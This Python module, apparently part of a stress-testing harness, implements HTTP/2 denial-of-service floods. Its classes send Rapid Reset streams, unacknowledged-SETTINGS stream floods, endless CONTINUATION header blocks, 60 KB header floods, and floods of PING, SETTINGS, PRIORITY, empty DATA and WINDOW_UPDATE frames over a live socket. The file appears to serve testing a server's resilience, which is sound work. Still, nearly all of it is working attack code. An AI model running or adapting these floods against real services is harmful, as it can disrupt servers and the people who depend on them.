"""Floods of frames: each is legal for itself, and too many of them are the attack."""

from __future__ import annotations

import random
import socket

from attacker import SIMULATE, Attacker, block, call_headers, discard, message
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

_CANCEL = 8
_CHUNK = 100  # streams that go out in one piece
_CALL = block(call_headers(SIMULATE))


class Flood(Attacker):
    """Sends `piece` again and again on a connection that has done everything right so far."""

    acknowledge = True

    def once(self, number: int, draw: random.Random) -> None:
        with self.connect_http2(self.acknowledge) as connection:
            self.begin(connection)
            stream, sent = 1, 0
            while not self.over() and sent < self.options["frames"]:
                piece, frames, streams = self.piece(stream, draw)
                connection.sendall(piece)
                discard(connection)
                self.counts["frames"] += frames
                sent += frames
                stream += 2 * streams
            if not self.over():
                self.hold(connection)

    def begin(self, connection: socket.socket) -> None:
        """What comes before the flood."""

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        """Bytes from this stream on, how many frames they are, how many streams they open."""
        raise NotImplementedError

    def hold(self, connection: socket.socket) -> None:
        """Keeps the connection until the time is spent: the frames were all that is allowed."""
        while not self.over():
            connection.settimeout(0.1)
            try:
                if not connection.recv(1 << 16):
                    raise ConnectionResetError("closed by the server")
            except TimeoutError:
                pass


class RapidReset(Flood):
    """Opens calls and resets them at once, half of them with a message."""

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        frames = []
        for number in range(stream, stream + 2 * _CHUNK, 2):
            frames.append(HeadersFrame(number, _CALL, flags=["END_HEADERS"]).serialize())
            if draw.random() < 0.5:
                frames.append(DataFrame(number, message(b"")).serialize())
            frames.append(RstStreamFrame(number, _CANCEL).serialize())
        return b"".join(frames), len(frames), _CHUNK


class NeverAcknowledges(Flood):
    """Never acknowledges SETTINGS, so that no limit on streams is in force, and opens calls."""

    acknowledge = False

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        numbers = range(stream, stream + 2 * _CHUNK, 2)
        frames = [HeadersFrame(number, _CALL, flags=["END_HEADERS"]).serialize() for number in numbers]
        return b"".join(frames), _CHUNK, _CHUNK


class Continuation(Flood):
    """A block of headers that never ends, in frames none of which is too large for itself."""

    _HEADERS = block([(f"x-{number}", "a" * 1000) for number in range(6)])
    _PIECE = ContinuationFrame(1, _HEADERS).serialize() * _CHUNK

    def begin(self, connection: socket.socket) -> None:
        connection.sendall(HeadersFrame(1, _CALL).serialize())

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        return self._PIECE, _CHUNK, 0


class HeaderFlood(Flood):
    """Calls with 60 KB of headers each, in frames that the server allows."""

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        more = [(f"x-{number}", "a" * 1000) for number in range(60)]
        data = block(call_headers(SIMULATE, *more))
        first = HeadersFrame(stream, data[:16_000]).serialize()
        rest = [data[at : at + 16_000] for at in range(16_000, len(data), 16_000)]
        frames = [ContinuationFrame(stream, part) for part in rest]
        frames[-1].flags.add("END_HEADERS")
        return first + b"".join(frame.serialize() for frame in frames), 1 + len(frames), 1


class Pings(Flood):
    """PING without end."""

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        return PingFrame(0, draw.randbytes(8)).serialize() * _CHUNK, _CHUNK, 0


class Settings(Flood):
    """SETTINGS without end, each of which is to be acknowledged."""

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        return SettingsFrame(0, {4: 65_535}).serialize() * _CHUNK, _CHUNK, 0


class Priorities(Flood):
    """PRIORITY for streams that are not there."""

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        frame = PriorityFrame(1 + 2 * draw.randrange(10**6), stream_weight=1)
        return frame.serialize() * _CHUNK, _CHUNK, 0


class EmptyData(Flood):
    """DATA of no bytes on a call that never ends."""

    def begin(self, connection: socket.socket) -> None:
        connection.sendall(HeadersFrame(1, _CALL, flags=["END_HEADERS"]).serialize())

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        return DataFrame(1).serialize() * _CHUNK, _CHUNK, 0


class WindowUpdates(Flood):
    """Windows that grow by one byte at a time."""

    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
        return WindowUpdateFrame(0, 1).serialize() * _CHUNK, _CHUNK, 0
